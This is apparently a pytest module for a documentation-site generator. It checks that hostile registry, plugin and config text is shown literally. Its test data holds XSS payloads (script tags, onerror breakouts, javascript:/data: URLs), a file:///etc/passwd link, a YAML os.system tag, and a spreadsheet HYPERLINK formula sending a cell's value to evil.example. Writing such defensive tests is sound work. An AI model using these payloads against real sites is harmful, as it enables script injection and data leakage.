"""Text is text: every string from a registry entry, a configuration or a plugin reaches the site as the
same characters, shown literally, in every context it reaches (HTML text, tables, attributes, page
metadata, the navigation, mermaid labels, the search index, ``models.json`` and ``models.csv``).

Each case puts one hostile text in one field and renders, with the site's own markdown extensions, every
page that field reaches. A case passes when (1) the page has the same elements and attributes as the
same page rendered with a plain word in that field (the text added no markup, no link, no event handler),
(2) the text is in the page, shown as itself (characters no page can show are U+FFFD), (3) the page's
front matter still reads (its title, description and search settings survive), and (4) the downloads hold
the text as data. The end of the module builds a real site from ``tests/hostile/site``.

Every case is one test marked ``hostile``: ``benchmarks/hostile.py`` runs each alone in its own process.
"""

from __future__ import annotations

import csv
import dataclasses
import html
import io
import json
import re
import unicodedata
from collections.abc import Callable
from functools import lru_cache
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import markdown
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from mkdocs.utils.meta import get_data

from archzoo.errors import ArchzooError
from archzoo.host import PluginHost, reset_host
from archzoo.registry import load_registry
from archzoo.site import build_site, exports, markup, navigation, pages, views
from fast_subset import examples
from plugin_selection import only_plugins
from site_corpus import CORPUS, hostile_plugin

pytestmark = [pytest.mark.hostile, pytest.mark.sweep]

REPO = Path(__file__).resolve().parents[1]
BERT_BASE = REPO / "registry" / "bert" / "bert-base-uncased.yaml"
#: transformers BertModel(BertConfig()): sum(p.numel() for p in model.parameters())
BERT_BASE_PARAMS = 109_482_240
#: Devlin et al. 2019, Section 3: "Total Parameters=110M"
BERT_BASE_PUBLISHED = 110_000_000

#: Hostile texts: markup, markdown, math, templates, mermaid syntax, spreadsheet formulas, and characters
#: no page can show. Each stays valid registry and plugin text and must be shown as written.
TEXTS = {
    "script": "<script>window.__pwned='script'</script>",
    "attribute-breakout": '"><img src=x onerror="window.__pwned=\'img\'">',
    "single-quote-breakout": "' onmouseover='window.__pwned=1' x='",
    "markdown-javascript-link": "[click me](javascript:window.__pwned='link')",
    "html-javascript-link": "<a href=\"javascript:window.__pwned='a'\">click</a>",
    "autolink": "<javascript:window.__pwned='autolink'> <https://example.org>",
    "pipes-and-backticks": "a | b `c` ```d``` \\| e",
    "emphasis-and-escapes": "*em* __strong__ \\*not\\* ~~del~~ ^^ins^^ ==mark==",
    "jinja": "{{ config.site_name }} {% if true %}x{% endif %} {# c #}",
    "math": "$$ \\href{javascript:window.__pwned='math'}{x} $$ $y$ \\(z\\) \\[w\\]",
    "html-comment": "--> <!-- /archzoo:html --> <!-- archzoo:html --> <!--",
    "end-tags": "</textarea></title></script></code></td></tr></table></svg></p>",
    "spreadsheet-formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "entities": "&lt;b&gt; &amp; &#60;i&#62; &quot; &nbsp; AT&T",
    "attr-list": "x {: onclick=\"window.__pwned='attr'\" } {#id .class}",
    "mermaid-syntax": 'a"] --> n1["b %%{init: {"securityLevel": "loose"}}%% #quot; #60; \ufb02\u00b0\u00b060\u00b6\u00df',
    "markdown-blocks": "# heading\n\n- list\n1. ordered\n\n    indented code\n---\n> quote\n```\nfence",
    "front-matter": "x\n---\ntitle: injected\n...\n: ' \" # &a *b !!python/object:os.system",
    "c1-controls": "a\x80b\x9fc",
    "delete": "a\x7fb",
    "c0-controls": "a\x00b\x1bc\x0bd\x0ce",
    "lone-surrogates": "a\ud800b\udfffc",
    "line-separators": "a\r\nb\rc\x85d\u2028e\u2029f",
    "bidi-and-zero-width": "a\u202eb\u200bc\ufeffd",
}
#: What a field holds in the reference rendering every hostile one is compared with.
PLAIN = "plain"

_BREAKS = re.compile("\r\n?|[\x85\u2028\u2029]")


def shown(text: str) -> str:
    """``text`` as a page shows it, whitespace collapsed: line breaks are breaks, and a character no page
    can show (a control character other than tab and newline, or a lone surrogate) is U+FFFD."""
    text = _BREAKS.sub("\n", text)
    out = "".join("\ufffd" if unicodedata.category(c) in ("Cc", "Cs") and c not in "\t\n" else c for c in text)
    return squash(out)


def squash(text: str) -> str:
    return " ".join(text.split())


# ---- rendering as MkDocs does, and reading the result ---------------------------------------------


@lru_cache(maxsize=1)
def _markdown_config() -> tuple[list, dict]:
    from mkdocs.config import load_config

    config = load_config(str(REPO / "mkdocs.yml"))
    config = config.plugins.on_config(config)  # the archzoo plugin adds the extensions its pages need
    return config.markdown_extensions, config.mdx_configs


@lru_cache(maxsize=64)  # the plain pages every case is compared with are rendered once
def render(page: str) -> tuple[dict, str]:
    """A generated page's front matter as MkDocs reads it, and its body as the site's markdown renders it."""
    body, meta = get_data(page)
    extensions, configs = _markdown_config()
    return meta, markdown.Markdown(extensions=extensions, extension_configs=configs).convert(body)


class Html(HTMLParser):
    """The elements of an HTML fragment (tag and attributes, in order) and its text as a browser shows it.

    Pygments' spans inside a code block (``<pre>``) are left out of `structure`: how it colours a string
    depends on the string.
    """

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.highlighting: list[tuple[str, dict[str, str | None]]] = []
        self.parts: list[str] = []
        self.in_pre = 0
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if self.in_pre and tag == "span" and set(attrs) <= {"class"}:
            self.highlighting.append((tag, attrs))
        else:
            self.elements.append((tag, attrs))
        self.in_pre += tag == "pre"

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        self.in_pre -= tag == "pre" and self.in_pre > 0

    def handle_data(self, data):
        self.parts.append(data)

    @property
    def text(self) -> str:
        return squash("".join(self.parts))

    @property
    def attribute_text(self) -> str:
        return squash(" ".join(v or "" for _, attrs in self.elements for v in attrs.values()))

    def structure(self) -> list[tuple[str, tuple[str, ...]]]:
        return [(tag, tuple(sorted(attrs))) for tag, attrs in self.elements]

    def links(self) -> list[str]:
        return [v for _, attrs in self.elements for k, v in attrs.items() if k in ("href", "src", "xlink:href") and v]


def check_page(hostile_page: str, plain_page: str, expected: str, *, in_attributes: bool = False) -> dict:
    """The checks every page of every case passes; returns the hostile page's front matter."""
    meta, body = render(hostile_page)
    plain_meta, plain_body = render(plain_page)
    assert set(meta) == set(plain_meta) and meta, "the front matter no longer reads"
    assert not body.lstrip().startswith(("<hr", "<p>title:")), "the front matter was printed as page text"
    page, plain = Html(body), Html(plain_body)
    assert page.structure() == plain.structure(), "the text added or removed markup"
    for link in page.links():
        assert urlsplit(html.unescape(link)).scheme in ("", "http", "https"), link
    assert not any(k.startswith("on") for _, attrs in page.elements for k in attrs)
    where = page.attribute_text if in_attributes else page.text
    assert shown(expected) in where
    return meta


def mermaid_labels(body: str) -> list[str]:
    """The labels of every mermaid diagram of a rendered page, decoded as mermaid decodes them, as they
    read: the invisible word joiner that keeps two ``$`` apart (mermaid reads ``$$...$$`` as math) dropped."""
    labels = []
    for source in re.findall(r'<pre class="mermaid"><code>(.*?)</code></pre>', body, re.S):
        for label in re.findall(r'\["([^"]*)"\]', html.unescape(source)):
            assert re.fullmatch(r"(?:[^#%`<>&\"$]|#\d+;|<br/>)*", label), label  # nothing mermaid would read
            decoded = re.sub(r"#(\d+);", lambda m: chr(int(m.group(1))), label.replace("<br/>", " "))
            assert "$$" not in decoded, decoded
            labels.append(decoded.replace("$\u2060", "$"))
    return labels


# ---- registry fields ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def bert():
    """bert-base-uncased: a published figure with a citation, a reconciliation and a reference."""
    registry = load_registry([BERT_BASE])
    return views.model_view(registry.get_model("bert-base-uncased"), source_path="registry/bert/bert-base-uncased.yaml")


def _arch_page_of(view: views.ModelView) -> str:
    from archzoo.host import get_host

    arch = views.architecture_view(get_host().architecture(view.architecture), models=(view,))
    return pages.architecture_page(arch)


#: field -> (how to put a text in a model view, the pages that show it)
MODEL_FIELDS: dict[str, tuple[Callable[[views.ModelView, str], views.ModelView], tuple[str, ...]]] = {
    "title": (lambda v, t: dataclasses.replace(v, title=t), ("model", "all-models", "home", "architecture")),
    "summary": (lambda v, t: dataclasses.replace(v, summary=t), ("model",)),
    "tag": (lambda v, t: dataclasses.replace(v, tags=(t,)), ("model", "all-models")),
    "citation": (lambda v, t: dataclasses.replace(v, published_citation=t), ("model",)),
    "locator": (lambda v, t: dataclasses.replace(v, published_locator=t), ("model",)),
    "reconciliation-note": (lambda v, t: dataclasses.replace(v, reason_note=t), ("model",)),
    "measured-with": (lambda v, t: dataclasses.replace(v, reference_measured=1, reference_measured_with=t), ("model",)),
    "architecture-title": (lambda v, t: dataclasses.replace(v, architecture_title=t), ("model",)),
    "registry-path": (lambda v, t: dataclasses.replace(v, source_path=t), ("model",)),
}

PAGES: dict[str, Callable[[views.ModelView], str]] = {
    "model": pages.model_page,
    "all-models": lambda v: pages.models_page([v]),
    "home": lambda v: pages.home_page([v], []),
    "architecture": _arch_page_of,
}


@pytest.mark.parametrize("text_id", TEXTS)
@pytest.mark.parametrize("field", MODEL_FIELDS)
def test_registry_text_is_shown_literally(bert, field, text_id):
    text = TEXTS[text_id]
    put, where = MODEL_FIELDS[field]
    view, plain = put(bert, text), put(bert, PLAIN)
    for name in where:
        meta = check_page(PAGES[name](view), PAGES[name](plain), text)
        if name == "model":
            assert meta["search"] == {"exclude": True}
            assert meta["archzoo_search"]["params"] == BERT_BASE_PARAMS
        if name == "model" and field in ("title", "summary"):
            assert shown(text) in squash(html.unescape(meta["description"]))  # the theme writes it as it is
            assert shown(text) in squash(meta["archzoo_search"][field])  # the hooks escape it
    if field in ("title", "tag"):
        record = json.loads(exports.models_json([view]))["models"][0]
        assert squash(record["title"] if field == "title" else record["tags"][0]) == shown(text)


# ---- links made from registry data ----------------------------------------------------------------

#: A source's url -> whether the site makes a link of it (only http, https and relative targets).
URLS = {
    "javascript": ("javascript:window.__pwned='url'", False),
    "javascript-mixed-case": ("JaVaScRiPt:window.__pwned=1", False),
    "javascript-leading-space": ("  javascript:window.__pwned=1", False),
    "javascript-tab-inside": ("java\tscript:window.__pwned=1", False),
    "javascript-newline-inside": ("java\nscript:window.__pwned=1", False),
    "data": ("data:text/html,<script>window.__pwned=1</script>", False),
    "vbscript": ("vbscript:msgbox(1)", False),
    "file": ("file:///etc/passwd", False),
    "control-before-scheme": ("\x01javascript:window.__pwned=1", True),  # U+FFFD first: a relative path
    "entity-in-scheme": ("java&#115;cript:window.__pwned=1", True),  # not decoded: a relative path
    "https-attribute-breakout": ('https://example.org/"><script>window.__pwned=1</script>', True),
    "http-with-ampersands": ("http://example.org/?a=1&b=2&lt=3", True),
    "scheme-relative": ("//example.org/paper.pdf", True),
    "relative": ("../papers/bert.pdf", True),
}


@pytest.mark.parametrize("url_id", URLS)
def test_source_url_is_linked_only_when_safe(bert, url_id):
    url, linked = URLS[url_id]
    view = dataclasses.replace(bert, published_links=(("source", url),))
    page = Html(render(pages.model_page(view))[1])
    anchors = [attrs["href"] for tag, attrs in page.elements if tag == "a" and "href" in attrs]
    shown_url = "".join("\ufffd" if unicodedata.category(c) in ("Cc", "Cs") and c not in "\t\n" else c for c in url)
    assert (shown_url in anchors) is linked
    for href in anchors:
        assert urlsplit(href).scheme in ("", "http", "https"), href
    if not linked:
        assert squash(f"source {shown_url}") in page.text  # shown as text instead


# ---- spreadsheet cells ----------------------------------------------------------------------------

#: A title -> its models.csv cell (OWASP, "CSV Injection": a cell starting with = + - @ tab or a line
#: break is prefixed with a single quote).
CELLS = {
    "equals": ("=1+1", "'=1+1"),
    "hyperlink": ('=HYPERLINK("http://evil.example","click")', '\'=HYPERLINK("http://evil.example","click")'),
    "plus": ("+1", "'+1"),
    "minus": ("-1", "'-1"),
    "at": ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    "tab": ("\t=1", "'\t=1"),
    "carriage-return": ("\r=1", "'\n=1"),
    "plain": ("BERT-Base, Uncased", "BERT-Base, Uncased"),
    "formula-inside": ("a=1+1", "a=1+1"),
}


@pytest.mark.parametrize("cell_id", CELLS)
def test_csv_text_cells_cannot_be_formulas(bert, cell_id):
    title, cell = CELLS[cell_id]
    rows = list(
        csv.DictReader(io.StringIO(exports.models_csv([dataclasses.replace(bert, title=title, tags=(title,))])))
    )
    assert rows[0]["title"] == cell and rows[0]["tags"] == cell


def test_csv_numbers_stay_numbers(bert):
    """Negative numbers in numeric columns are numbers, never quoted as formulas."""
    row = next(csv.DictReader(io.StringIO(exports.models_csv([bert]))))
    assert row["difference"] == str(BERT_BASE_PARAMS - BERT_BASE_PUBLISHED) == "-517760"
    assert float(row["difference_relative"]) == pytest.approx(
        (BERT_BASE_PARAMS - BERT_BASE_PUBLISHED) / BERT_BASE_PUBLISHED, abs=1e-6
    )
    assert row["difference_relative"].startswith("-0.0047")


# ---- plugin fields --------------------------------------------------------------------------------

#: field of the hostile plugin -> how a page shows the text (plain, or as a JSON value: a default)
ARCH_FIELDS = {
    "title": "text",
    "summary": "text",
    "citation": "text",
    "config_description": "text",
    "config_default": "json",
    "literal": "json",
    "block_name": "text",
    "block_description": "attribute",
    "symbol_meaning": "text",
}


def _expected(text: str, how: str) -> str:
    return json.dumps(text, ensure_ascii=False) if how == "json" else text


#: pydantic cannot make a Literal type of a string with lone surrogates: no plugin can declare one
_PLUGIN_CASES = [(f, t) for f in ARCH_FIELDS for t in TEXTS if (f, t) != ("literal", "lone-surrogates")]


@pytest.mark.parametrize(("field", "text_id"), _PLUGIN_CASES, ids=[f"{f}-{t}" for f, t in _PLUGIN_CASES])
def test_plugin_text_is_shown_literally(field, text_id):
    text = TEXTS[text_id]
    hostile = views.architecture_view(hostile_plugin.architecture(**{field: text}))
    plain = views.architecture_view(hostile_plugin.architecture(**{field: PLAIN}))
    assert not hostile.error, hostile.error
    how = ARCH_FIELDS[field]
    meta = check_page(
        pages.architecture_page(hostile),
        pages.architecture_page(plain),
        _expected(text, how),
        in_attributes=how == "attribute",
    )
    if field in ("title", "summary"):
        assert shown(text) in squash(html.unescape(meta[{"title": "title", "summary": "description"}[field]]))
        check_page(pages.home_page([], [hostile]), pages.home_page([], [plain]), text)
    if field == "block_name":
        labels = mermaid_labels(render(pages.architecture_page(hostile))[1])
        assert any(squash(label).startswith(shown(text)) for label in labels), labels


@pytest.mark.parametrize("text_id", TEXTS)
@pytest.mark.parametrize("field", ["plugin", "plugin_version", "plugin_source", "build_error"])
def test_plugin_metadata_is_shown_literally(field, text_id):
    text = TEXTS[text_id]

    def view(value: str) -> views.ArchitectureView:
        if field == "build_error":
            return views.architecture_view(hostile_plugin.architecture(build_error=value))
        base = views.architecture_view(hostile_plugin.architecture())
        return dataclasses.replace(base, **{field: value})

    hostile = view(text)
    # the host words a plugin's failure itself (it folds the message's whitespace): the page shows its words
    expected = hostile.error if field == "build_error" else text
    assert field != "build_error" or "build raised ValueError: " in expected
    check_page(pages.architecture_page(hostile), pages.architecture_page(view(PLAIN)), expected)
    if field == "plugin":
        check_page(pages.home_page([], [view(text)]), pages.home_page([], [view(PLAIN)]), text)


@pytest.fixture(scope="module")
def plugin_entry():
    """The corpus's model of the hostile plugin's architecture, loaded with the plugin."""
    host = PluginHost(extra_plugins={"hostile-text": hostile_plugin.plugin()}).load()
    registry = load_registry([CORPUS / "registry" / "plugin-architecture.yaml"], host)
    assert not registry.problems, [str(p) for p in registry.problems]
    return registry.get_model("plugin-architecture")


@pytest.mark.parametrize("text_id", TEXTS)
def test_block_names_on_a_model_page(plugin_entry, text_id):
    """A block's name reaches the blocks table, the bar chart and the diagram of every model page."""
    text = TEXTS[text_id]

    def page(name: str) -> str:
        arch = hostile_plugin.architecture(block_name=name, block_description=name)
        entry = dataclasses.replace(plugin_entry, architecture=arch, config=arch.config_model(n_layers=3))
        return pages.model_page(views.model_view(entry))

    hostile = page(text)
    check_page(hostile, page(PLAIN), text)
    body = render(hostile)[1]
    assert any(squash(label).startswith(shown(text)) for label in mermaid_labels(body))
    bars = re.search(r'<svg class="az-plot az-bars".*?</svg>', body, re.S).group(0)
    assert shown(f"layers.{text}") in Html(bars).text


# ---- the theme ------------------------------------------------------------------------------------


def test_theme_does_not_render_title_attributes_as_html(bert):
    """Block descriptions are plain text in ``title="..."`` attributes. Material's ``content.tooltips``
    feature would copy a title attribute into a tooltip as HTML (``innerHTML``): it must stay off."""
    from mkdocs.config import load_config

    config = load_config(str(REPO / "mkdocs.yml"))
    config = config.plugins.on_config(config)  # with the features the archzoo plugin adds
    assert "content.tooltips" not in config.theme["features"]
    assert '<span class="az-block" title="' in pages.model_page(bert)  # what the feature would turn into HTML


# ---- the navigation -------------------------------------------------------------------------------


def _navigation_title(text: str) -> str:
    """The navigation title of an architecture titled ``text``, as MkDocs hands it to the theme (which
    writes navigation titles into pages as HTML, as they are)."""
    arch = dataclasses.replace(views.architecture_view(hostile_plugin.architecture()), title=text)
    [architectures] = [item["Architectures"] for item in navigation.nav_config([arch]) if "Architectures" in item]
    [(title, children)] = architectures[0].items()
    assert children[0] == "architectures/hostile-text/index.md"
    return title


@pytest.mark.parametrize("text_id", TEXTS)
def test_navigation_title_is_the_escaped_text(text_id):
    """The theme writes the navigation title as HTML: that title must be the HTML-escaped text."""
    title = _navigation_title(TEXTS[text_id])
    assert squash(html.unescape(title)) == shown(TEXTS[text_id])
    assert not Html(title).elements


# ---- a real build of the hostile registry and plugin --------------------------------------------

SCRIPT_SOURCES = ("assets/", "../assets/", "../../assets/", "../../../assets/")


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    """The site of ``tests/hostile/site/registry`` with the hostile plugin loaded, built by MkDocs."""
    # the corpus's plugins alone (GPT and the hostile one): a page for every other installed architecture would
    # hold no text of the corpus, and cost the build most of its time
    plugins = {"hostile-text": hostile_plugin.plugin()}
    reset_host(PluginHost(only=["gpt", "hostile-text"], extra_plugins=plugins).load())
    try:
        return build_site(tmp_path_factory.mktemp("hostile") / "site", registry=[CORPUS / "registry"])
    finally:
        reset_host(None)


def _built_pages(site: Path) -> list[Path]:
    return sorted(site.rglob("index.html"))


def test_built_pages_hold_no_markup_from_the_registry_or_the_plugin(hostile_site):
    built = {p.relative_to(hostile_site).parent.as_posix() for p in _built_pages(hostile_site)}
    assert {
        ".",
        "models",
        "models/markup-everywhere",
        "models/spreadsheet-formulas",
        "models/multiline-markdown",
        "models/plugin-architecture",
        "architectures/hostile-text",
        "architectures/gpt",
    } <= built
    for path in _built_pages(hostile_site):
        page = Html(path.read_text(encoding="utf-8"))
        where = path.relative_to(hostile_site).as_posix()
        for tag, attrs in page.elements:
            assert not [k for k in attrs if k.startswith("on")], (where, tag, attrs)
            assert tag not in ("img", "iframe", "object", "embed", "textarea"), (where, tag, attrs)
            for key in ("href", "src"):
                scheme = urlsplit(attrs.get(key) or "").scheme
                edit_link = "md-content__button" in (attrs.get("class") or "")
                assert scheme in ("", "http", "https") or (edit_link and scheme == "file"), (where, attrs)
            if tag == "script" and attrs.get("src"):
                assert attrs["src"].startswith(SCRIPT_SOURCES), (where, attrs)  # nothing from a CDN
        text = path.read_text(encoding="utf-8")
        for script in re.findall(r"<script\b[^>]*>(.*?)</script>", text, re.S):
            assert "__pwned" not in script, where
        if 'class="mermaid"' in text:
            assert "assets/vendor/mermaid/mermaid.tiny.js" in text, where


def _read(site: Path, page: str) -> tuple[str, Html]:
    text = (site / page / "index.html").read_text(encoding="utf-8")
    return text, Html(text)


def _corpus_entry(name: str) -> dict:
    import yaml

    return yaml.safe_load((CORPUS / "registry" / f"{name}.yaml").read_text(encoding="utf-8"))


def test_built_model_page_shows_the_text_and_keeps_its_metadata(hostile_site):
    entry = _corpus_entry("markup-everywhere")
    text, page = _read(hostile_site, "models/markup-everywhere")
    title = re.search(r"<title>(.*?)</title>", text, re.S).group(1)
    assert html.unescape(title) == "markup-everywhere - archzoo model zoo"
    description = html.unescape(re.search(r'<meta name="description" content="([^"]*)"', text).group(1))
    assert description.startswith(entry["title"] + ": 124,439,808 parameters. ")  # GPT2Model, transformers
    for value in (
        entry["title"],
        entry["summary"],
        *entry["tags"],
        entry["published"]["source"]["locator"],
        entry["published"]["source"]["venue"],
    ):
        assert squash(value) in page.text, value
    source = entry["published"]["source"]["url"]  # https: linked, its quotes and tags kept inside href
    assert [attrs["href"] for tag, attrs in page.elements if tag == "a" and attrs.get("href") == source]
    article = text[text.index("<article") : text.index("</article>")]
    assert "<h1" in article and 'class="arithmatex"' in article  # the page body is the generated page's


def test_built_plugin_page_and_navigation_show_the_plugin_text(hostile_site):
    title = shown(hostile_plugin.DEFAULT_TEXTS["title"])
    text, page = _read(hostile_site, "architectures/hostile-text")
    assert (
        squash(html.unescape(re.search(r"<title>(.*?)</title>", text, re.S).group(1))) == f"{title} - archzoo model zoo"
    )
    nav = [
        squash("".join(Html(a).parts))
        for a in re.findall(r'<a href="\./"[^>]*class="md-nav__link[^"]*"[^>]*>(.*?)</a>', text, re.S)
    ]
    assert title in nav  # the navigation's link to this page, under Architectures
    for field in ("summary", "citation", "config_description", "block_name", "symbol_meaning"):
        assert shown(hostile_plugin.DEFAULT_TEXTS[field]) in page.text, field
    assert shown(hostile_plugin.DEFAULT_TEXTS["block_description"]) in page.attribute_text
    assert any(
        squash(label).startswith(shown(hostile_plugin.DEFAULT_TEXTS["block_name"])) for label in mermaid_labels(text)
    )


def test_built_search_index_holds_escaped_text(hostile_site):
    entry = _corpus_entry("markup-everywhere")
    index = json.loads((hostile_site / "search" / "search_index.json").read_text(encoding="utf-8"))
    doc = next(d for d in index["docs"] if d["location"] == "models/markup-everywhere/")
    # Material's search shows title, text and tags as HTML: each must read back as the registry's text
    assert doc["title"] == "markup-everywhere"
    assert squash(entry["title"]) in Html(doc["text"]).text and squash(entry["summary"]) in Html(doc["text"]).text
    assert [html.unescape(t) for t in doc["tags"]] == entry["tags"]
    assert not any(Html(t).elements for t in doc["tags"])
    assert {tag for tag, _ in Html(doc["text"]).elements} == {"p"}  # the hook's own paragraphs only


def test_built_downloads_hold_the_text_as_data(hostile_site):
    formulas = _corpus_entry("spreadsheet-formulas")
    records = {r["id"]: r for r in json.loads((hostile_site / "models.json").read_text(encoding="utf-8"))["models"]}
    assert records["spreadsheet-formulas"]["title"] == formulas["title"]
    assert records["markup-everywhere"]["tags"] == _corpus_entry("markup-everywhere")["tags"]
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO((hostile_site / "models.csv").read_text(encoding="utf-8")))}
    assert rows["spreadsheet-formulas"]["title"] == "'" + formulas["title"]
    assert rows["spreadsheet-formulas"]["tags"] == "'" + ";".join(formulas["tags"])
    assert rows["markup-everywhere"]["title"] == _corpus_entry("markup-everywhere")["title"]  # starts with '"'


# ---- any text at all ------------------------------------------------------------------------------

#: Any characters, lone surrogates included, weighted towards the ASCII punctuation markup is made of.
ANY_TEXT = st.text(
    st.one_of(
        st.characters(codec=None, exclude_categories=()),
        st.sampled_from("<>&\"'`*_[](){}#|$\\!=+-.:@%^~\n\r\t\x00\x7f\x80\x9f\u2028"),
    ),
    max_size=40,
)
ANY = settings(max_examples=examples(150), deadline=None)


@ANY
@given(ANY_TEXT)
@example("[x](javascript:alert(1)) <b>&amp; `c` | $$y$$ {: #i }")
def test_any_text_in_a_markdown_table_cell_and_heading_renders_as_itself(text):
    body = render(f"# {markup.text_md(text)}\n\n| a |\n| -- |\n| {markup.text_md(text)} |\n")[1]
    page = Html(body)
    assert [tag for tag, _ in page.elements] == ["h1", "a", "table", "thead", "tr", "th", "tbody", "tr", "td"]
    heading = Html(body[: body.index("</h1>")]).text
    cell = Html(body[body.index("<td>") :]).text
    assert cell == shown(text) and heading.removesuffix("¶").strip() == shown(text)


@ANY
@given(ANY_TEXT, ANY_TEXT)
@example("x\n---\ny: 1", "\x80\ud800")
def test_any_text_keeps_the_front_matter_readable(title, summary):
    body, meta = get_data(
        markup.front_matter(title=title, description=summary, archzoo_search={"title": title, "tags": [summary]})
        + "\nbody\n"
    )
    assert body.strip() == "body"
    assert squash(html.unescape(meta["title"])) == shown(title)
    assert squash(html.unescape(meta["description"])) == shown(summary)
    assert squash(meta["archzoo_search"]["title"]) == shown(title)
    assert squash(meta["archzoo_search"]["tags"][0]) == shown(summary)


@ANY
@given(ANY_TEXT)
@example('a"] --> b["c %%{init: {}}%% $$x$$ #quot; `md`')
def test_any_block_name_is_one_literal_mermaid_label(name):
    from archzoo.site.diagram import _label

    diagram = 'flowchart TB\n  n1["' + _label(name) + '"]'
    rendered = f'<pre class="mermaid"><code>{html.escape(diagram)}</code></pre>'  # as superfences writes it
    assert [squash(label) for label in mermaid_labels(rendered)] == [shown(name)]


@ANY
@given(ANY_TEXT)
def test_any_csv_text_cell_reads_back_as_text(text):
    from archzoo.site.exports import csv_cell
    from archzoo.site.markup import displayable

    cell = csv_cell(displayable(text))
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow([cell, 1])
    [[read, number]] = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert read == cell and number == "1"
    assert not read.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))  # OWASP: no formula can start here


@ANY
@given(ANY_TEXT)
def test_any_navigation_title_is_the_escaped_text(text):
    title = _navigation_title(text)
    assert squash(html.unescape(title)) == shown(text) and not Html(title).elements


# ---- files of docs/ that lead out of the zoo ------------------------------------------------------


@pytest.fixture
def bert_plugin_only():
    """The zoo of `_zoo_with_docs` holds BERT-base: its builds load the BERT plugin alone (what an owner's text
    or a link in docs/ does to a build does not depend on how many architecture pages it has)."""
    with only_plugins("bert"):
        yield


def _zoo_with_docs(tmp_path: Path) -> Path:
    """A zoo (mkdocs.yml, docs/, registry/ with BERT-base) and, beside it, a private file."""
    zoo = tmp_path / "zoo"
    (zoo / "docs").mkdir(parents=True)
    (zoo / "registry").mkdir()
    (zoo / "registry" / BERT_BASE.name).write_bytes(BERT_BASE.read_bytes())
    (zoo / "mkdocs.yml").write_text(
        "site_name: Zoo\ntheme:\n  name: material\nplugins:\n  - search\n  - archzoo\n", encoding="utf-8"
    )
    (tmp_path / "private").mkdir()
    (tmp_path / "private" / "secret.md").write_text("# Secret\n\nSECRET-TOKEN-4711\n", encoding="utf-8")
    return zoo


@pytest.mark.usefixtures("bert_plugin_only")
@pytest.mark.parametrize("how", ["file", "folder"])
def test_docs_symlink_out_of_the_zoo_is_refused(tmp_path, monkeypatch, how):
    """A link in docs/ to a file outside the zoo (or to a folder outside it) is refused in one line, and
    no site is written: neither a page, a copy nor a search entry of the file is published."""
    zoo = _zoo_with_docs(tmp_path)
    if how == "file":
        (zoo / "docs" / "notes.md").symlink_to(tmp_path / "private" / "secret.md")
        shown = "docs/notes.md"
    else:
        (zoo / "docs" / "extra").symlink_to(tmp_path / "private", target_is_directory=True)
        shown = "docs/extra/secret.md"
    monkeypatch.chdir(zoo)
    out = tmp_path / "site"
    with pytest.raises(ArchzooError) as raised:
        build_site(out)
    message = str(raised.value)
    assert message.startswith(f"site build failed: {shown}: a symbolic link"), message
    assert "outside the zoo" in message and "\n" not in message.split("; the previous")[0]
    assert not out.exists()
    assert not list(tmp_path.glob(".site.building-*"))  # the staging folder is gone too


@pytest.mark.usefixtures("bert_plugin_only")
def test_docs_symlink_inside_the_zoo_is_published(tmp_path, monkeypatch):
    """A link that stays inside the zoo (docs/ to the zoo's own README) is the zoo's file, and published."""
    zoo = _zoo_with_docs(tmp_path)
    (zoo / "README.md").write_text("# About this zoo\n\nZOO-README-TEXT\n", encoding="utf-8")
    (zoo / "docs" / "about.md").symlink_to(zoo / "README.md")
    monkeypatch.chdir(zoo)
    site = build_site(tmp_path / "site")
    assert "ZOO-README-TEXT" in (site / "about" / "index.html").read_text(encoding="utf-8")


@pytest.mark.usefixtures("bert_plugin_only")
@pytest.mark.parametrize(
    "line, shown",
    [
        ('repo_url: "javascript://%0aalert(1)"', "repo_url 'javascript://%0aalert(1)': expected the address"),
        ('repo_url: "data:text/html,<script>alert(1)</script>"', "repo_url"),  # MkDocs' own check refuses this
        ("site_name: 'Zoo <img src=x onerror=alert(1)>'", "site_name: character 5 is '<'"),
        ("site_description: 'say \"hi\"'", "site_description: character 5 is '\"'"),
    ],
)
def test_owner_text_that_would_run_as_script_is_refused(tmp_path, monkeypatch, line, shown):
    """mkdocs-material writes site_name and site_description into every page as they are, and MkDocs accepts
    a javascript:// repo_url, which runs when the repository link is clicked: the build refuses both in one
    line, however the text reached mkdocs.yml (archzoo init refuses the same text from its options)."""
    zoo = _zoo_with_docs(tmp_path)
    config = (zoo / "mkdocs.yml").read_text(encoding="utf-8")
    key = line.split(":")[0]
    if key == "site_name":
        config = config.replace("site_name: Zoo\n", line + "\n")
    else:
        config += line + "\n"
    (zoo / "mkdocs.yml").write_text(config, encoding="utf-8")
    monkeypatch.chdir(zoo)
    out = tmp_path / "site"
    with pytest.raises(ArchzooError) as raised:
        build_site(out)
    assert shown in str(raised.value), str(raised.value)
    assert not out.exists()


@pytest.mark.usefixtures("bert_plugin_only")
def test_a_build_without_a_home_folder_writes_the_site(tmp_path, monkeypatch):
    """No HOME and no passwd entry (a container's env -i): the site is built, with no traceback."""
    import pwd

    zoo = _zoo_with_docs(tmp_path)
    monkeypatch.chdir(zoo)
    monkeypatch.delenv("HOME", raising=False)
    monkeypatch.setenv("ARCHZOO_CACHE_DIR", str(tmp_path / "cache"))

    def no_entry(uid):
        raise KeyError(f"getpwuid(): uid not found: {uid}")

    monkeypatch.setattr(pwd, "getpwuid", no_entry)
    site = build_site(tmp_path / "site")
    assert (site / "index.html").is_file()
